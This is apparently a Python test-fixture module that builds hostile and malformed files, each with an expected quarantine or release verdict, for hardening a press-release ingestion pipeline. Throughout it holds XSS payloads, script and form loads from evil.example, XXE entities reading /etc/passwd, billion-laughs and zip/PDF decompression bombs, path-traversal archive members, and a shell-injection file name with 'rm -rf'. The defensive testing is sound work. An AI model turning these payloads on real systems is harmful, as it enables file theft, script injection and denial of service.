"""Hostile and odd files, each with its verdict: what anybody may drop into a folder, on purpose or not.

Bytes are made when they are asked for; some are tens of megabytes.
"""

from __future__ import annotations

import io
import os
import random
import socket
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from contextlib import chdir, closing, suppress
from email.message import EmailMessage
from functools import cache
from pathlib import Path
from typing import NamedTuple

from reportlab.lib.pdfencrypt import StandardEncryption
from reportlab.lib.utils import ImageReader
from reportlab.pdfgen.canvas import Canvas

from factories import a_text

EVIL = "stolen()"
"""What every script in these files calls. It may be shown as words, never as a script."""

PASSWD = "root:x:0:0"
"""How the file begins that some of these want to have read."""

_WORDS = "The plant on the coast is running and the team is content with the first weeks of the new year."


class Odd(NamedTuple):
    """A file and its verdict: the state of its drop, and for what is set aside the code."""

    make: Callable[[], bytes]
    state: str
    code: str | None = None


def good(title: str) -> bytes:
    """A release with a headline of its own."""
    return a_text(f"Harbour Copper Reports {title}")


def released(make: Callable[[], bytes]) -> Odd:
    return Odd(make, "release")


def refused(code: str, make: Callable[[], bytes]) -> Odd:
    return Odd(make, "quarantined", code)


def _titled(title: str, *more: str) -> bytes:
    """A release whose whole headline is *title*, with *more* after its lead."""
    return a_text(title, body="\n\n".join(more))


# ── Text ────────────────────────────────────────────────────────────────────────────────────────────────────────

TEXT = {
    "empty.txt": refused("empty", lambda: b""),
    "blank.txt": refused("empty", lambda: b" \r\n\t\n" * 50),
    "dots.txt": refused("no-text", lambda: b"... --- !!! *** ...\n" * 20),
    "figures.txt": refused("no-text", lambda: b"1,234 5,678 9.0\n" * 20),
    "nul.txt": refused("binary", lambda: good("Nul").replace(b" is ", b"\0is\0")),
    "noise.txt": refused("binary", lambda: random.Random(4).randbytes(200_000)),
    "headless.txt": refused("no-headline", lambda: f"March 2, 2026 - Harbour Copper Corp. reports. {_WORDS}".encode()),
    "one line of 50 MB.txt": refused("too-large", lambda: b"copper " * 7_200_000),
    "too many characters.txt": refused("too-large", lambda: good("Length") + (_WORDS + "\n").encode() * 25_000),
    "too many lines.txt": refused("too-large", lambda: good("Lines") + b"Cu\n" * 40_000),
    "utf-16 without a mark.txt": refused("binary", lambda: good("Wide").decode().encode("utf-16-le")),
    "utf-16.txt": released(lambda: good("Little Ends").decode().encode("utf-16")),
    "utf-16 big.txt": released(lambda: b"\xfe\xff" + good("Big Ends").decode().encode("utf-16-be")),
    "utf-32.txt": released(lambda: good("Four Bytes").decode().encode("utf-32")),
    "mark.txt": released(lambda: b"\xef\xbb\xbf" + good("A Mark")),
    "cp1252.txt": released(lambda: good("Erträge").decode().encode("cp1252")),
    "surrogates.txt": released(lambda: good("Halves") + b"\n\xed\xa0\x80 and \xed\xbf\xbf\n"),
    "overlong.txt": released(lambda: good("Overlong") + b"\n\xc0\xafetc\xc0\xafpasswd\n"),
    "carriage returns.txt": released(lambda: good("Returns").replace(b"\n", b"\r")),
    "controls.txt": released(lambda: good("Controls\x01\x02\x7f")),
    "terminal.txt": released(lambda: good("\x1b[2J\x1b]0;owned\x07Colours")),
    "bidi.txt": released(lambda: good("\u202etxet neddih\u202c \u2066Order\u2069\u200b")),
    "script.txt": released(lambda: good(f"<script>{EVIL}</script> in Its Headline")),
    "cdata.txt": released(lambda: good("]]></title><![CDATA[<b>Bold</b>")),
    "entities.txt": released(lambda: good("&lt;script&gt;stolen()&lt;/script&gt; &bogus; &#0;")),
    "braces.txt": released(lambda: good("{{ 7*7 }} {% include '/etc/passwd' %} ${HOME}")),
    "mail header.txt": released(lambda: good("Calm\\nBcc: all@example.com")),
    "long word.txt": released(lambda: _titled("Harbour Copper Says One Word", "o" * 500_000)),
    "combining.txt": released(lambda: good("Marks" + "\u0301" * 120)),
    "a pdf by name.pdf": released(lambda: good("Text by Another Name")),
    "script.md": released(
        lambda: b"# Harbour Copper Marks Down\n\nMarch 2, 2026 - Harbour Copper Corp. reports. "
        + f"{_WORDS}\n\n<script>{EVIL}</script>\n\n[here](javascript:{EVIL}) ![x](data:text/html,{EVIL})\n".encode()
    ),
    "brackets.md": released(
        lambda: b"# Harbour Copper Opens Brackets\n\nMarch 2, 2026 - Harbour Copper Corp. reports. "
        + _WORDS.encode() + b"\n\n" + b"[" * 20_000
    ),
}  # fmt: skip


# ── Web pages ───────────────────────────────────────────────────────────────────────────────────────────────────


def page(title: str, inner: str = "", head: str = "", attributes: str = "") -> bytes:
    """A web page with a release in it."""
    return (
        f"<!doctype html><html lang=en><head><title>Harbour Copper {title}</title>{head}</head><body {attributes}>"
        f"<article><h1>Harbour Copper {title}</h1><p>March 2, 2026 - Harbour Copper Corp. (TSX:HBC) today reports "
        f"how it stands. {_WORDS}</p>{inner}<p>{_WORDS}</p></article></body></html>"
    ).encode()


PAGES = {
    "script.html": released(lambda: page("Loads", f"<script>{EVIL}</script><script src=//evil.example/x.js></script>")),
    "handlers.html": released(
        lambda: page("Handles", f"<p onclick='{EVIL}'>One</p><img src=x onerror='{EVIL}'>", "", f"onload='{EVIL}'")
    ),
    "links.html": released(
        lambda: page("Links", f"<a href='javascript:{EVIL}'>a</a><a href=' jAvA\tscript:{EVIL}'>b</a>"
                     f"<a href='data:text/html,<script>{EVIL}</script>'>c</a><a href='vbscript:{EVIL}'>d</a>")
    ),
    "svg.html": released(lambda: page("Draws", f"<svg onload={EVIL}><script>{EVIL}</script><a href=x>y</a></svg>")),
    "frames.html": released(
        lambda: page("Frames", f"<iframe srcdoc='<script>{EVIL}</script>'></iframe><object data=x></object>"
                     "<embed src=x><applet></applet>", "<base href=//evil.example><meta http-equiv=refresh content=0>")
    ),
    "form.html": released(
        lambda: page("Asks", "<form action=//evil.example><input name=card><button>Go</button></form>",
                     "<style>@import url(//evil.example)</style>")
    ),
    "mutation.html": released(
        lambda: page("Mutates", f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 "
                     f"onerror={EVIL}&gt;'></table></mtext></math>")
    ),
    "escaped.html": released(lambda: page("Escapes", f"<p>&lt;script&gt;{EVIL}&lt;/script&gt;</p>")),
    "comment.html": released(lambda: page("Comments", f"<!--><script>{EVIL}</script>--><p>Well.</p><!-- never ended")),
    "xhtml.html": released(lambda: b"<?xml version='1.0' encoding='utf-8'?>" + page("Is Strict")),
    "utf-7.html": released(
        lambda: page("Is Old", "<p>+ADw-script+AD4-stolen()+ADw-/script+AD4-</p>", "<meta charset=utf-7>")
    ),
    "only scripts.html": refused("no-text", lambda: f"<html><body><script>{EVIL}</script></body></html>".encode()),
    "deep.html": refused("resource-limit", lambda: page("Nests", "<div>" * 5_000)),
    "deepest.html": refused("too-large", lambda: page("Nests More", "<div>" * 300_000)),
    "attributes.html": refused(
        "resource-limit", lambda: page("Adorns", f"<p {' '.join(f'a{n}=1' for n in range(300_000))}>x</p>")
    ),
    "one attribute.html": refused("resource-limit", lambda: page("Pads", f"<p title='{'x' * 3_000_000}'>x</p>")),
    "a million paragraphs.html": refused("too-large", lambda: page("Repeats", "<p>Cu</p>" * 900_000)),
    "never closed.html": refused("resource-limit", lambda: page("Shouts", "<b><i><u><p>x" * 1_500)),
}  # fmt: skip


# ── XML ─────────────────────────────────────────────────────────────────────────────────────────────────────────


def nitf(title: str, inner: str = "", *, doctype: str = "", head: str = "") -> bytes:
    """An article in NITF with a release in it."""
    return (
        f"<?xml version='1.0'?>{doctype}<nitf><head>{head}</head><body><body.head><hedline><hl1>Harbour Copper {title}"
        f"</hl1></hedline><dateline><story.date>March 2, 2026</story.date> -</dateline></body.head>"
        f"<body.content><p>Harbour Copper Corp. (TSX:HBC) today reports how it stands. {_WORDS}</p>{inner}"
        "</body.content></body></nitf>"
    ).encode()


_LAUGHS = "".join(f"<!ENTITY l{n + 1} '{f'&l{n};' * 10}'>" for n in range(9))
_OUTSIDE = "<!DOCTYPE nitf [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>"
_PARAMETER = "<!DOCTYPE nitf [<!ENTITY % x SYSTEM 'http://127.0.0.1:9/evil.dtd'> %x;]>"

XML = {
    "laughs.xml": refused(
        "xml-entity", lambda: nitf("Laughs", "<p>&l9;</p>", doctype=f"<!DOCTYPE nitf [<!ENTITY l0 'ha'>{_LAUGHS}]>")
    ),
    "quadratic.xml": refused(
        "xml-entity",
        lambda: nitf("Grows", "&a;" * 50_000, doctype=f"<!DOCTYPE nitf [<!ENTITY a '{'x' * 50_000}'>]>"),
    ),
    "outside.xml": refused("xml-entity", lambda: nitf("Reads", "<p>&x;</p>", doctype=_OUTSIDE)),
    "parameter.xml": refused("xml-entity", lambda: nitf("Calls", doctype=_PARAMETER)),
    "deep.xml": refused("xml-too-deep", lambda: nitf("Sinks", "<p>" * 200_000)),
    "broken.xml": refused("xml-malformed", lambda: nitf("Breaks")[:-20]),
    "root.xml": refused("unsupported-type", lambda: f"<?xml version='1.0'?><rss>{_WORDS}</rss>".encode()),
    "huge text.xml": refused("too-large", lambda: nitf("Swells", f"<p>{'copper ' * 1_600_000}</p>")),
    "include.xml": released(
        lambda: nitf("Includes", "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' parse='text' "
                     "href='file:///etc/passwd'/>")
    ),
    "script.xml": released(
        lambda: nitf("Scripts", f"<p onclick='{EVIL}'>Well.</p><script>{EVIL}</script><object>x</object>")
    ),
    "stylesheet.xml": released(lambda: nitf("Styles", doctype="<?xml-stylesheet href='//evil.example/x.xsl'?>")),
    "withheld.xml": Odd(lambda: nitf("Waits", head="<docdata management-status='withheld'/>"), "held"),
}  # fmt: skip


# ── Packages ────────────────────────────────────────────────────────────────────────────────────────────────────

_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_MAIN = "word/document.xml"


def packed(members: dict[str, str | bytes]) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in members.items():
            package.writestr(name, content)
    return target.getvalue()


def word(title: str, inner: str = "", before: str = "", **members: str | bytes) -> bytes:
    """A Word file; *members* are further files of the package."""
    lines = (f"Harbour Copper {title}", f"March 2, 2026 - Harbour Copper Corp. (TSX:HBC) reports. {_WORDS}", _WORDS)
    body = "".join(f"<w:p><w:r><w:t>{line}</w:t></w:r></w:p>" for line in lines)
    main = f'{before}<w:document xmlns:w="{_W}"><w:body>{body}{inner}</w:body></w:document>'
    return packed({_MAIN: main, **members})


@cache
def _bomb() -> bytes:
    """A quarter of a megabyte that unpacks to 210."""
    return word("Bursts", **{"word/media/x.bin": bytes(210_000_000)})


def _lying() -> bytes:
    """A package that understates the size of its text, in both of the places where it is written."""
    data = word("Lies", f"<w:p><w:r><w:t>{'copper ' * 8_000_000}</w:t></w:r></w:p>")
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        size = struct.pack("<I", package.getinfo(_MAIN).file_size)
    return data.replace(size, struct.pack("<I", 5_000))


def _with_password() -> bytes:
    """The mark that a member is encrypted, in both of the places where it is written."""
    data = bytearray(word("Locks"))
    for sign, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        data[data.index(sign) + offset] |= 1
    return bytes(data)


_CHANGED = "<w:p><w:ins w:author='Ann'><w:r><w:t>Added late.</w:t></w:r></w:ins></w:p>"
_COMMENTED = "<w:p><w:commentRangeStart w:id='1'/><w:r><w:t>Quite so.</w:t></w:r><w:commentReference w:id='1'/></w:p>"
_COMMENT = (
    f'<w:comments xmlns:w="{_W}"><w:comment w:id="1"><w:p><w:r><w:t>{EVIL}</w:t></w:r></w:p></w:comment></w:comments>'
)
_OLD = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2_000)

PACKAGES = {
    "bomb.docx": refused("zip-bomb", _bomb),
    "lying.docx": refused("corrupt", _lying),
    "long text.docx": refused("zip-bomb", lambda: word("Runs On", f"<w:p>{'<w:r/>' * 8_000_000}</w:p>")),
    "members.docx": refused("zip-bomb", lambda: word("Counts", **{f"x/{n}": "" for n in range(3_000)})),
    "paragraphs.docx": refused("too-large", lambda: word("Divides", "<w:p/>" * 100_000)),
    "deep.docx": refused("xml-too-deep", lambda: word("Sinks Too", "<w:p>" * 100_000)),
    "entity.docx": refused("xml-entity", lambda: word("Names", before=_OUTSIDE)),
    "cut.docx": refused("corrupt", lambda: word("Is Cut")[:-300]),
    "password.docx": refused("encrypted", lambda: packed_old("EncryptedPackage")),
    "member password.docx": refused("encrypted", _with_password),
    "changes.docx": Odd(lambda: word("Changes", _CHANGED), "held"),
    "comments.docx": released(lambda: word("Is Praised", _COMMENTED, **{"word/comments.xml": _COMMENT})),
    "escape.docx": released(lambda: word("Climbs", **{"../../../evil.txt": "x", "/etc/evil.txt": "x"})),
    "picture.docx": refused("type-mismatch", lambda: b"\x89PNG\r\n\x1a\n" + bytes(5_000)),
    "nested.zip": refused("unsupported-type", lambda: packed({"a.zip": packed({"b.zip": packed({"c.txt": "x"})})})),
    "table.xlsx": refused("unsupported-type", lambda: packed({"xl/workbook.xml": "<x/>"})),
    "office.odt": refused("unsupported-type", lambda: packed({"mimetype": "application/vnd.oasis.opendocument.text"})),
    "old.doc": refused("binary-doc", lambda: packed_old("WordDocument")),
    "older.doc": refused("binary-doc", lambda: packed_old("WordDocument") + b"another"),
    "outlook.msg": refused("unsupported-type", lambda: packed_old("__substg1.0_0037001F")),
}  # fmt: skip


def packed_old(part: str) -> bytes:
    """The start of an old Office file with one part."""
    return _OLD + part.encode("utf-16-le")


# ── PDF ─────────────────────────────────────────────────────────────────────────────────────────────────────────


def drawn(title: str | None, *, pages: int = 1, guard: StandardEncryption | None = None, script: str = "") -> bytes:
    target = io.BytesIO()
    canvas = Canvas(target, invariant=1, encrypt=guard)
    for _ in range(pages):
        if title:
            text = canvas.beginText(72, 700)
            text.textLines(
                f"Harbour Copper {title}\n\nMarch 2, 2026 - Harbour Copper Corp. (TSX:HBC) reports.\n{_WORDS}"
            )
            canvas.drawText(text)
        canvas.showPage()
    if script:
        canvas._doc.Catalog.OpenAction = f"<</S/JavaScript/JS({script})>>"
    canvas.save()
    return target.getvalue()


def _scan() -> bytes:
    target = io.BytesIO()
    canvas = Canvas(target, invariant=1)
    canvas.drawImage(ImageReader(io.BytesIO(_dot())), 72, 72, 400, 600)
    canvas.save()
    return target.getvalue()


def _dot() -> bytes:
    """One white dot as PNG."""
    parts = {b"IHDR": bytes((0, 0, 0, 1, 0, 0, 0, 1, 8, 0, 0, 0, 0)), b"IDAT": zlib.compress(b"\0\xff"), b"IEND": b""}
    sums = {name: zlib.crc32(name + content).to_bytes(4, "big") for name, content in parts.items()}
    chunks = (len(content).to_bytes(4, "big") + name + content + sums[name] for name, content in parts.items())
    return b"\x89PNG\r\n\x1a\n" + b"".join(chunks)


def _swollen() -> bytes:
    """A page of one megabyte that unpacks to a gigabyte of blanks."""
    packer = zlib.compressobj(9)
    first = packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    again = packer.compress(b" " * (1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)  # refers to nothing before it
    stream = first + again * 1_000 + packer.flush()
    return (
        b"%%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R>>endobj\n"
        b"4 0 obj<</Length %d/Filter/FlateDecode>>stream\n%s\nendstream endobj\ntrailer<</Root 1 0 R>>\n%%%%EOF"
        % (len(stream), stream)
    )


_LOOP = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[2 0 R]/Count 9>>endobj"

PDF = {
    "password.pdf": refused("encrypted", lambda: drawn("Hides", guard=StandardEncryption("secret", "owner"))),
    "owner.pdf": released(lambda: drawn("Forbids Changes", guard=StandardEncryption("", "owner"))),
    "cut.pdf": refused("corrupt", lambda: drawn("Is Torn")[:300]),
    "garbage.pdf": refused("corrupt", lambda: b"%PDF-1.7\n" + random.Random(5).randbytes(100_000)),
    "brackets.pdf": refused("corrupt", lambda: b"%PDF-" + b"[" * 100_000),
    "loop.pdf": refused("corrupt", lambda: _LOOP),
    "swollen.pdf": refused("resource-limit", _swollen),
    "pages.pdf": refused("too-many-pages", lambda: drawn(None, pages=501)),
    "scan.pdf": refused("scanned", _scan),
    "another scan.pdf": refused("scanned", lambda: _scan() + b"\n"),
    "blank.pdf": refused("no-text", lambda: drawn(None)),
    "script.pdf": released(lambda: drawn("Acts", script=EVIL)),
}


# ── RTF and mail ────────────────────────────────────────────────────────────────────────────────────────────────


def rtf(title: str, inner: str = "") -> bytes:
    return (
        rf"{{\rtf1\ansi\ansicpg1252 Harbour Copper {title}\par\par March 2, 2026 - Harbour Copper Corp. (TSX:HBC) "
        rf"reports. {_WORDS}\par\par {inner}}}"
    ).encode()


HEADERS = b"From: Ann Ray <ann@tern.example>\r\nTo: desk@gull.example\r\nDate: Mon, 2 Mar 2026 07:00:00 +0000\r\n"


def mail(title: str, attached: dict[str, bytes] | None = None, *, html: str = "") -> bytes:
    message = EmailMessage()
    message["From"], message["To"], message["Date"] = (
        "a@tern.example",
        "b@gull.example",
        "Mon, 2 Mar 2026 07:00:00 +0000",
    )
    message["Subject"] = f"Harbour Copper {title}"
    words = f"Harbour Copper {title}\n\nMarch 2, 2026 - Harbour Copper Corp. (TSX:HBC) reports. {_WORDS} {_WORDS}\n"
    message.set_content(html or words, subtype="html" if html else "plain")
    for name, data in (attached or {}).items():
        message.add_attachment(data, maintype="application", subtype="octet-stream", filename=name)
    return message.as_bytes()


def _parts(count: int) -> bytes:
    part = b"--x\r\nContent-Type: text/plain\r\n\r\nWell.\r\n"
    return (
        HEADERS + b"Subject: Parts\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n" + part * count + b"--x--\r\n"
    )


def _nested(count: int) -> bytes:
    heads = (b"Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n" % (n, n) for n in range(count))
    return HEADERS + b"Subject: Nested\r\n" + b"".join(heads) + b"Content-Type: text/plain\r\n\r\nWell.\r\n"


_CLIMBING = {"../../../../climbed.txt": good("From Far Up"), "..\\..\\climbed.txt": good("From the Side")}

MAILS = {
    "groups.rtf": refused("resource-limit", lambda: rtf("Groups", "{" * 5_000)),
    "fonts.rtf": refused("resource-limit", lambda: rtf("Sets Type", r"{\fonttbl" + r"{\f1 Arial;}" * 20_000 + "}")),
    "cut.rtf": released(lambda: rtf("Is Half There")[:-2]),
    "object.rtf": released(
        lambda: rtf("Embeds", r"{\object\objdata 4d5a9000}{\field{\*\fldinst INCLUDETEXT /etc/passwd}}")
    ),
    "bin.rtf": released(lambda: rtf("Counts Badly", r"{\bin-5 }{\*\bin99999999999 x}\u-99999999999999 ?")),
    "parts.eml": refused("resource-limit", lambda: _parts(3_000)),
    "nested.eml": refused("resource-limit", lambda: _nested(3_000)),
    "subject.eml": refused(
        "resource-limit", lambda: HEADERS + b"Subject: " + b"=?utf-8?q?Cu?= " * 187_000 + b"\r\n\r\nWell.\r\n"
    ),
    "encrypted.eml": refused(
        "encrypted",
        lambda: _parts(2).replace(b"multipart/mixed", b"multipart/encrypted"),
    ),
    "climbing.eml": Odd(lambda: mail("Sends Files", _CLIMBING), "carrier"),
    "script.eml": released(
        lambda: mail("Writes in Colour", html=page("Writes in Colour", f"<script>{EVIL}</script>").decode())
    ),
    "bomb attached.eml": Odd(lambda: mail("Sends a Bomb", {"bomb.docx": _bomb()}), "carrier"),
    "nul header.eml": released(lambda: mail("Has a Nul").replace(b"Subject:", b"X-Odd: \x00\x01\r\nSubject:")),
}  # fmt: skip


# ── What is no document, and names ──────────────────────────────────────────────────────────────────────────────

STRANGERS = {
    "picture.png": refused("unsupported-type", _dot),
    "packed.gz": refused("unsupported-type", lambda: b"\x1f\x8b\x08" + random.Random(6).randbytes(500)),
    "program": refused("unsupported-type", lambda: b"\x7fELF\x02\x01\x01" + bytes(500)),
    "database.db": refused("unsupported-type", lambda: b"SQLite format 3\0" + bytes(500)),
    "page.ps": refused("unsupported-type", lambda: b"%!PS-Adobe-3.0\n(" + good("PostScript") + b") show\n"),
    "archive.tar": refused("binary", lambda: b"release.txt" + bytes(489) + good("An Archive") + bytes(1_000)),
}

NAMES = {
    "two\nlines.txt": released(lambda: good("a Name of Two Lines")),
    "controls\x1b[31m\x07.txt": released(lambda: good("a Name in Red")),
    "turned\u202etxt.exe": released(lambda: good("a Turned Name")),
    "<img src=x onerror=stolen()>.txt": released(lambda: good("a Name with a Tag")),
    "$(touch climbed); rm -rf ..txt": released(lambda: good("a Name for the Shell")),
    "-rf": released(lambda: good("a Name Like an Option")),
    "%s%n%00 {name}.txt": released(lambda: good("a Name for Printing")),
    "no utf-8 \udcff\udcfe.txt": released(lambda: good("a Name in No Language")),
    f"{'long' * 62}abc.txt": released(lambda: good("the Longest Name")),
    "no utf-8 \\xff\\xfe.txt": released(lambda: good("a Name That Looks Alike")),
    "📈 наш отчёт.txt": released(lambda: good("a Name from Elsewhere")),
    " ": released(lambda: good("a Blank Name")),
    "/".join("abcdefghijklmno") + "/deep.txt": released(lambda: good("from Deep Down")),
}

CORPUS: dict[str, Odd] = {**TEXT, **PAGES, **XML, **PACKAGES, **PDF, **MAILS, **STRANGERS, **NAMES}

INSIDE = {
    "climbing.eml/climbed.txt": "release",
    "climbing.eml/2 climbed.txt": "release",
    "bomb attached.eml/bomb.docx": "quarantined",
}
"""What comes inside others, and its state."""


# ── What must never be taken ────────────────────────────────────────────────────────────────────────────────────


def lay_traps(inbox: Path, outside: Path) -> Iterator[str]:
    """Puts what is no file of the folder into it, with a readable release behind some; gives the names."""
    secret = outside / "secret"
    secret.mkdir()
    (secret / "news.txt").write_bytes(good("What Lies Elsewhere"))
    yield _linked(inbox / "passwd.txt", Path("/etc/passwd"))
    yield _linked(inbox / "news link.txt", secret / "news.txt")
    yield _linked(inbox / "folder link", secret)
    yield _linked(inbox / "nowhere.txt", secret / "nowhere")
    yield _linked(inbox / "itself.txt", inbox / "itself.txt")
    yield _linked(inbox / "around", inbox)
    os.mkfifo(inbox / "pipe.txt")
    yield "pipe.txt"
    with (
        closing(socket.socket(socket.AF_UNIX)) as listener,
        chdir(inbox),
    ):  # a socket's name has hardly a hundred letters
        listener.bind("socket.txt")
    yield "socket.txt"
    with suppress(PermissionError):  # for root alone
        os.mknod(inbox / "zero.txt", 0o20600, os.makedev(1, 5))
        yield "zero.txt"
    for name in (".hidden.txt", "draft.txt~", "upload.txt.part", "~$news.docx", "Thumbs.db", "..hidden.txt"):
        (inbox / name).write_bytes(good("What Is Not Meant"))
        yield name
    deep = inbox / "/".join("abcdefghijklmnopqr")
    deep.mkdir(parents=True)
    (deep / "too deep.txt").write_bytes(good("from Too Deep Down"))
    yield "too deep.txt"
    with (inbox / "too large.txt").open("wb") as file:
        file.truncate(70_000_000)
    yield "too large.txt"


def _linked(place: Path, target: Path) -> str:
    place.symlink_to(target)
    return place.name
